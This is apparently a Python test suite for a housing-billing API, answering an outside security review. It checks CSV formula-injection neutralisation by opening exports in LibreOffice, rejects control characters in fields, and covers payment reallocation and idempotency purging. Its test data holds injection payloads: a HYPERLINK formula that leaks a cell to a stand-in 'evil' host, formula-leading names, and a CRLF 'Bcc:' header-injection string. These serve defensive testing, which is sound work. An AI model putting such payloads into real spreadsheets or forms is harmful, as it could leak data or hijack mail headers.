"""Issue 13 (outside review), items 5 and 11: what a user or an attacker
does, and what must happen. The ledger CSV never hands a spreadsheet a
formula and still gives LibreOffice numbers and dates; reversals leave the
oldest month paid first; single-line fields refuse line breaks; an occupied
unit cannot be rewritten under its household; idempotency answers are
purged; POST /calendar-tokens validates its body."""
import os
import shutil
import signal
import subprocess
import tempfile
import time
import unittest
import xml.etree.ElementTree as ET

import harness
import test_billing as billing

OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


def libreoffice_cells(csv_bytes):
    """The ledger opened by LibreOffice as a Belgian French user would: CSV
    import with ';', '"', UTF-8 (76), from line 1, language fr-BE (2060),
    quoted fields not forced to text, special numbers (dates) detected;
    formulas evaluated, as by default. Saved as flat ODF and read back:
    rows of (value-type, value, formula, text) per cell."""
    soffice = shutil.which("soffice")
    if soffice is None:
        raise AssertionError("soffice missing: scripts/dev.sh installs libreoffice-calc-nogui")
    work = tempfile.mkdtemp(prefix="transitd-lo-")
    try:
        src = os.path.join(work, "ledger.csv")
        with open(src, "wb") as f:
            f.write(csv_bytes)
        subprocess.run([soffice, "--headless", "--norestore",
                        "-env:UserInstallation=file://" + os.path.join(work, "profile"),
                        "--infilter=CSV:59,34,76,1,,2060,false,true",
                        "--convert-to", "fods", "--outdir", work, src],
                       check=True, capture_output=True, timeout=300)
        tree = ET.parse(os.path.join(work, "ledger.fods"))
    finally:
        shutil.rmtree(work, ignore_errors=True)
    rows = []
    for row in tree.iter("{%s}table-row" % TABLE):
        cells = []
        for cell in row.findall("{%s}table-cell" % TABLE):
            repeat = int(cell.get("{%s}number-columns-repeated" % TABLE, "1"))
            text = "".join("".join(p.itertext()) for p in cell.findall("{%s}p" % TEXT))
            kind = cell.get("{%s}value-type" % OFFICE)
            value = (cell.get("{%s}date-value" % OFFICE) if kind == "date"
                     else cell.get("{%s}value" % OFFICE))
            cells += [(kind, value, cell.get("{%s}formula" % TABLE), text)] * min(repeat, 20)
        rows.append(cells)
    return rows


class LedgerCsv(billing.PaymentCase):
    """Item 5: payers and unit names that look like formulas."""

    conventions = 2

    PAYERS = ['=HYPERLINK("http://evil/"&A1,"x")', "=2+3", "+2+3", "-2+3", "@SUM(2,3)"]

    def test_formulas_neutralised_bom_and_libreoffice_types(self):
        conv, hh = self.seeded[0]
        for i, payer in enumerate(self.PAYERS):
            self.paid(hh, 1000 + i, "2026-02-0%d" % (i + 1), payer=payer)
        # a tab or a carriage return first: the API refuses them in a name
        # now (item 11), rows written before may hold them
        self.sql("UPDATE units SET name = E'\\t=2+3' WHERE id = (SELECT unit_id FROM"
                 " conventions WHERE id = %d)" % conv)
        r = self.get("/api/v1/exports/ledger.csv?from=2026-01-01&to=2026-03-31",
                     role="accountant")
        self.assertEqual(r.status, 200, r)
        # UTF-8 BOM by default
        self.assertTrue(r.body.startswith("\ufeffdate;entry;"), r.body[:20])
        lines = r.body[1:].split("\r\n")
        self.assertIn('"\'=HYPERLINK(""http://evil/""&A1,""x"")"', r.body)
        for payer in self.PAYERS[1:]:
            self.assertIn(";'%s;" % payer, r.body)
            self.assertNotIn(";%s;" % payer, r.body)
        self.assertIn(";'\t=2+3;", r.body)
        # no text cell starts with a formula character
        for line in lines[1:]:
            if line:
                for cell in line.split(";"):
                    self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r"), line)
        plain = self.get("/api/v1/exports/ledger.csv?from=2026-01-01&to=2026-03-31&bom=0")
        self.assertEqual(plain.status, 200, plain)
        self.assertTrue(plain.body.startswith("date;entry;"), plain.body[:20])
        self.assertEqual(plain.body, r.body[1:])
        self.assertEqual(self.get("/api/v1/exports/ledger.csv?from=2026-01-01&to=2026-03-31"
                                  "&bom=1").body, r.body)
        for bad in ("bom=2", "bom=", "bom=yes"):
            p = self.assertProblem(self.get("/api/v1/exports/ledger.csv?from=2026-01-01"
                                            "&to=2026-03-31&" + bad), 400, "invalid-query")
            self.assertEqual(p["errors"][0]["field"], "bom")

        # LibreOffice: no formula anywhere, amounts numbers, dates dates
        raw = self.d.request("GET", "/api/v1/exports/ledger.csv?from=2026-01-01&to=2026-03-31",
                             token=self.tokens["accountant"])
        body = r.body.encode("utf-8")
        self.assertEqual(raw.body.encode("utf-8"), body)
        rows = libreoffice_cells(body)
        header = [c[3] for c in rows[0][:16]]
        self.assertEqual(header[0], "date")  # the BOM read as a BOM, not as text
        self.assertEqual(header[15], "credit")
        data = [row for row in rows[1:] if row and row[0][0] is not None]
        self.assertEqual(len(data), len([x for x in lines[1:] if x]))
        for row in data:
            for cell in row:
                self.assertIsNone(cell[2], row)  # never a formula
            self.assertEqual(row[0][0], "date", row)
            self.assertRegex(row[0][1], r"^2026-0[1-3]-\d\d$")
        payments = [row for row in data if row[1][3] == "payment"]
        self.assertEqual(sorted(row[11][3] for row in payments),
                         sorted("'" + p for p in self.PAYERS))
        for row in payments:
            self.assertEqual(row[11][0], "string")
            self.assertEqual(row[15][0], "float", row)
        self.assertEqual(sorted(float(row[15][1]) for row in payments),
                         [10.0, 10.01, 10.02, 10.03, 10.04])
        invoices = [row for row in data if row[1][3] == "invoice" and row[6][3] == str(conv)]
        self.assertEqual(len(invoices), 3)
        for row in invoices:
            # (the tab is a <text:tab/> in ODF: not in the text read back)
            self.assertEqual((row[7][0], row[7][3]), ("string", "'=2+3"))
            self.assertEqual((row[14][0], float(row[14][1])), ("float", 302.47))
            self.assertEqual((row[12][0], float(row[12][1])), ("float", 302.47))


class LineBreaks(billing.PaymentCase):
    """Item 11: CR/LF (and other control characters) in single-line fields."""

    conventions = 1

    def field_error(self, r, field):
        p = self.assertProblem(r, 422)
        codes = {e["field"]: e["code"] for e in p["errors"]}
        self.assertEqual(codes.get(field), "control-character", p)

    def test_single_line_fields_refuse_line_breaks(self):
        conv, hh = self.seeded[0]
        for bad in ("Anne\r\nBcc: x@example.org", "Anne\nExemple", "Anne\tExemple",
                    "Anne\u2028Exemple", "Anne\u0085Exemple", "Anne\x1bExemple"):
            r = self.pay({"household_id": hh, "paid_on": "2026-03-01", "amount_cents": 100,
                          "method": "cash", "payer": bad})
            self.field_error(r, "payer")
        self.field_error(self.post("/api/v1/households", {"reference": "2026-001\r\n"},
                                   role="operator"), "reference")
        r = self.post("/api/v1/households", {"reference": "2026-LB1"}, role="operator")
        self.assertEqual(r.status, 201, r)
        member = {"first_name": "Marie\nX", "last_name": "Dupont", "birth_date": "1985-07-30",
                  "sex": "F", "relation": "head"}
        path = "/api/v1/households/%d/members" % r.json()["id"]
        self.field_error(self.post(path, member, role="operator"), "first_name")
        self.assertEqual(self.post(path, dict(member, first_name="Marie"),
                                   role="operator").status, 201)
        unit = dict(billing.UNIT, name="Rue Haute\n12")
        self.field_error(self.post("/api/v1/units", unit, role="operator"), "name")
        rooms = [dict(billing.UNIT["rooms"][0], name="séjour\r")] + billing.UNIT["rooms"][1:]
        r = self.post("/api/v1/units", dict(billing.UNIT, rooms=rooms), role="operator")
        self.assertEqual(self.assertProblem(r, 422)["errors"][0]["code"], "control-character")
        # a multi-line text keeps its line breaks: the reason of a reversal
        p = self.paid(hh, 100, "2026-03-01")
        r = self.post("/api/v1/payments/%d/reverse" % p["id"],
                      {"reason": "virement en double\r\nvoir extrait 12"}, role="accountant")
        self.assertEqual(r.status, 201, r)
        self.assertEqual(r.json()["reason"], "virement en double\r\nvoir extrait 12")
        # ... but no other control character
        p = self.paid(hh, 100, "2026-03-01")
        self.field_error(self.post("/api/v1/payments/%d/reverse" % p["id"],
                                   {"reason": "double\x07"}, role="accountant"), "reason")


class ReallocationAfterReversal(billing.PaymentCase):
    """Item 11: after a reversal the oldest month is paid first again."""

    conventions = 1

    def test_oldest_month_paid_first_after_a_reversal(self):
        conv, hh = self.seeded[0]
        a = self.paid(hh, 30247, "2026-01-04")
        b = self.paid(hh, 30247, "2026-02-04")
        c = self.paid(hh, 10000, "2026-03-04")
        paid = {i["month"]: i["paid_cents"] for i in self.invoices(household_id=hh)}
        self.assertEqual(paid, {"2026-01": 30247, "2026-02": 30247, "2026-03": 10000})
        receipt_b = self.get("/api/v1/receipts/%d" % b["receipt"]["id"]).json()
        r = self.post("/api/v1/payments/%d/reverse" % a["id"], {"reason": "chèque sans provision"},
                      role="accountant")
        self.assertEqual(r.status, 201, r)
        # January is paid by February's payment, February by March's; the
        # household paid 40 247 in all, the oldest months first
        paid = {i["month"]: i["paid_cents"] for i in self.invoices(household_id=hh)}
        self.assertEqual(paid, {"2026-01": 30247, "2026-02": 10000, "2026-03": 0})
        # what February and March had beyond that was given back (negative
        # rows, nothing rewritten), then allocated to January, oldest
        # payment first
        moved = self.get("/api/v1/payments/%d" % b["id"]).json()
        self.assertEqual([(x["month"], x["amount_cents"]) for x in moved["allocations"]],
                         [("2026-02", 30247), ("2026-02", -20247), ("2026-01", 20247)])
        self.assertEqual(moved["unallocated_cents"], 0)
        moved = self.get("/api/v1/payments/%d" % c["id"]).json()
        self.assertEqual([(x["month"], x["amount_cents"]) for x in moved["allocations"]],
                         [("2026-03", 10000), ("2026-03", -10000), ("2026-01", 10000)])
        # the receipt still says what it acknowledged when it was issued
        self.assertEqual(self.get("/api/v1/receipts/%d" % b["receipt"]["id"]).json(), receipt_b)
        # arrears count from February's due date (5 February, today 10 March)
        arrears = {x["household_id"]: x for x in self.get("/api/v1/arrears").json()["items"]}
        self.assertEqual((arrears[hh]["days_late"], arrears[hh]["total_due_cents"]),
                         (33, 2 * 30247 - 10000))
        # the database still refuses a move beyond what a payment pays
        r = billing.psql(self.dsn, "INSERT INTO allocations (operator_id, household_id,"
                         " payment_id, invoice_id, amount_cents) SELECT operator_id,"
                         " household_id, %d, id, -1 FROM invoices WHERE household_id = %d"
                         " AND month = '2026-02-01'" % (c["id"], hh), check=False)
        self.assertIn("(-1 on invoice", r.stderr)
        # a later payment pays the oldest open month
        d = self.paid(hh, 25000, "2026-03-09")
        self.assertEqual([(x["month"], x["amount_cents"]) for x in d["allocations"]],
                         [("2026-02", 20247), ("2026-03", 4753)])


class OccupiedUnit(billing.BillingCase):
    """Item 11: an occupied unit rewritten under its household."""

    extra_config = "testing = true\ntesting_today = 2026-01-05\n"

    def put_unit(self, unit, body):
        path = "/api/v1/units/%d" % unit
        version = self.get(path).json()["version"]
        return self.d.request("PUT", path, body=body, token=self.tokens["operator"],
                              headers={"If-Match": '"%d"' % version})

    def test_occupied_unit_keeps_its_rooms_and_indemnity(self):
        unit = self.unit("Rue Occupée 1")
        hh, adults, _ = self.household(children=1)
        conv = self.signed(hh, adults, unit, "2026-02-01")
        self.assertEqual(conv["state"], "signed")
        # the attack of the review: no room, no indemnity
        r = self.put_unit(unit, dict(billing.UNIT, name="Rue Occupée 1", rooms=[],
                                     base_indemnity_cents=0))
        p = self.assertProblem(r, 409, "unit-occupied")
        self.assertIn("convention %d " % conv["id"], p["detail"])
        self.assertEqual([e["field"] for e in p["errors"]], ["base_indemnity_cents"])
        r = self.put_unit(unit, dict(billing.UNIT, name="Rue Occupée 1",
                                     base_indemnity_cents=44999))
        self.assertProblem(r, 409, "unit-occupied")
        r = self.put_unit(unit, dict(billing.UNIT, name="Rue Occupée 1", rooms=[]))
        p = self.assertProblem(r, 409, "unit-occupied")
        self.assertIn("convention %d " % conv["id"], p["detail"])
        self.assertEqual([(e["field"], e["code"]) for e in p["errors"]],
                         [("rooms", "household-no-longer-fits")])
        # the couple's bedroom halved: the couple and their child no longer fit
        small = [dict(room) for room in billing.UNIT["rooms"]]
        small[1]["area_dm2"] = 500
        small[2]["area_dm2"] = 500
        self.assertProblem(self.put_unit(unit, dict(billing.UNIT, name="Rue Occupée 1",
                                                    rooms=small)), 409, "unit-occupied")
        # the database refuses it too, whoever writes
        r = billing.psql(self.dsn, "UPDATE units SET base_indemnity_cents = 0 WHERE id = %d"
                         % unit, check=False)
        self.assertIn("convention %d binds it" % conv["id"], r.stderr)
        unchanged = self.get("/api/v1/units/%d" % unit).json()
        self.assertEqual((len(unchanged["rooms"]), unchanged["base_indemnity_cents"]),
                         (3, 45000))
        # what keeps the household fitting, and the rest of the unit, may change
        larger = [dict(room) for room in billing.UNIT["rooms"]]
        larger[2]["area_dm2"] = 900
        r = self.put_unit(unit, dict(billing.UNIT, name="Rue Occupée 1 (rénové)", rooms=larger))
        self.assertEqual(r.status, 200, r)
        self.assertEqual(r.json()["rooms"][2]["area_dm2"], 900)
        # a unit no convention binds is free to change
        free = self.unit("Rue Libre 2")
        r = self.put_unit(free, dict(billing.UNIT, name="Rue Libre 2", rooms=[],
                                     base_indemnity_cents=0))
        self.assertEqual(r.status, 200, r)
        # nor does a draft convention, not signed yet
        drafted = self.unit("Rue Projet 3")
        other, _, _ = self.household(children=1)
        self.ok(self.create(self.check(other, drafted, "2026-02-01")), 201)
        r = self.put_unit(drafted, dict(billing.UNIT, name="Rue Projet 3", rooms=[],
                                        base_indemnity_cents=0))
        self.assertEqual(r.status, 200, r)


class CalendarTokenBody(billing.BillingCase):
    """Item 11: POST /calendar-tokens validates its body."""

    def test_body_validated(self):
        tok = self.tokens["social_worker"]
        before = self.sql("SELECT count(*) FROM calendar_tokens")
        for raw in (b"{", b"not json", b"[]", b'"x"', b'{"a":1,"a":2}'):
            r = self.d.request("POST", "/api/v1/calendar-tokens", raw=raw, token=tok,
                               headers={"Content-Type": "application/json"})
            self.assertProblem(r, 400, "malformed-json")
        r = self.d.request("POST", "/api/v1/calendar-tokens", body={"label": "x"}, token=tok)
        p = self.assertProblem(r, 422, "validation")
        self.assertEqual([e["field"] for e in p["errors"]], ["label"])
        self.assertEqual(self.sql("SELECT count(*) FROM calendar_tokens"), before)
        # no body, or an empty object: a token
        for kw in ({}, {"body": {}}):
            r = self.d.request("POST", "/api/v1/calendar-tokens", token=tok, **kw)
            self.assertEqual(r.status, 201, r)
            self.assertTrue(r.json()["token"].startswith("cal_"))


class IdempotencyPurge(billing.PaymentCase):
    """Item 11: idempotency answers (payers' names) are not kept forever."""

    conventions = 1
    extra_config = ("testing = true\ntesting_today = 2026-03-10\n"
                    "scheduler_interval_seconds = 3600\nidempotency_retention_days = 7\n")

    def test_answers_older_than_the_retention_are_purged(self):
        hh = self.household(0)
        body = {"household_id": hh, "paid_on": "2026-03-09", "amount_cents": 1000,
                "method": "transfer", "payer": "Anne Exemple"}
        old = self.pay(body, key="purge-old")
        recent = self.pay(body, key="purge-recent")
        self.assertEqual((old.status, recent.status), (201, 201))
        # the old answer was given 8 days ago, the recent one 6 days ago
        self.sql("UPDATE idempotency_keys SET created_at = now() - interval '8 days'"
                 " WHERE key = 'purge-old'")
        self.sql("UPDATE idempotency_keys SET created_at = now() - interval '6 days'"
                 " WHERE key = 'purge-recent'")
        passes = self.d.read_log().count("event=scheduler_pass")
        self.d.proc.send_signal(signal.SIGHUP)  # a scheduler pass now
        deadline = time.time() + 30
        while time.time() < deadline and \
                self.d.read_log().count("event=scheduler_pass") == passes:
            time.sleep(0.1)
        log = self.d.read_log()
        self.assertGreater(log.count("event=scheduler_pass"), passes, log[-2000:])
        self.assertIn("idempotency_purged=1", log)
        self.assertEqual(self.sql("SELECT key FROM idempotency_keys ORDER BY key"),
                         "purge-recent")
        # the recent key still replays its answer; the purged one is a new request
        again = self.pay(body, key="purge-recent")
        self.assertEqual((again.status, again.header("Idempotent-Replayed")), (201, "true"))
        self.assertEqual(again.json()["id"], recent.json()["id"])
        anew = self.pay(body, key="purge-old")
        self.assertEqual(anew.status, 201, anew)
        self.assertIsNone(anew.header("Idempotent-Replayed"))
        self.assertNotEqual(anew.json()["id"], old.json()["id"])

    def test_retention_is_checked_by_the_configuration(self):
        for bad in ("0", "3651", "x"):
            path = os.path.join(self.workdir, "bad.conf")
            with open(path, "w") as f:
                f.write("idempotency_retention_days = %s\n" % bad)
            r = subprocess.run([harness.BIN, "-f", path, "-n"], capture_output=True,
                               text=True, env=harness.sanitizer_env())
            self.assertNotEqual(r.returncode, 0)
            self.assertIn("idempotency_retention_days", r.stdout + r.stderr)


if __name__ == "__main__":
    unittest.main()
